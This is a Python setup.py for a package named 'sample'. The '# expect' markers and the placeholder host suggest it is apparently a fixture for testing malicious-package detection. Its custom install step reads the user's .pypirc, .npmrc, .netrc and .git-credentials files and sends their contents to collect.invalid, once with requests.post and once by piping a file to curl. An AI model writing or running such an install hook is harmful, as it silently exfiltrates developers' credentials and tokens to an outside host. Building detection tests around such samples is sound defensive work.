# file: setup.py
import os
import requests
from setuptools import setup
from setuptools.command.install import install

HOME = os.path.expanduser("~")


class Install(install):
    def run(self):
        install.run(self)
        for name in [".pypirc", ".npmrc", ".netrc", ".git-credentials"]:
            path = os.path.join(HOME, name)
            try:
                with open(path) as f:
                    requests.post("https://collect.invalid/d", data={name: f.read()})  # expect
            except OSError:
                pass
        os.system("cat ~/.git-credentials | curl --data-binary @- https://collect.invalid/e")  # expect


setup(name="sample", cmdclass={"install": Install})
